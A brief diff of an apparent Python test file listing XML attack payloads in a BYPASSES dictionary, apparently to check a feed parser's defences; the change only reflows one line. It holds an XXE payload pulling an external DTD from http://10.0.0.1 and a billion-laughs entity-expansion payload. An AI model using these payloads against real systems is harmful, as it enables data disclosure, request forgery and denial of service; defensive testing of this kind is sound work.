@@ -36,8 +36,7 @@ BYPASSES = {
     "parameter": b'<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY % p SYSTEM "http://10.0.0.1/x.dtd"> %p;]>'
     + BODY,
     # billion laughs, the classic
-    "laughs": b'<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY a "aaaa"><!ENTITY e "&a;&a;&a;&a;">]>'
-    + BODY,
+    "laughs": b'<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY a "aaaa"><!ENTITY e "&a;&a;&a;&a;">]>' + BODY,
 }
 
 
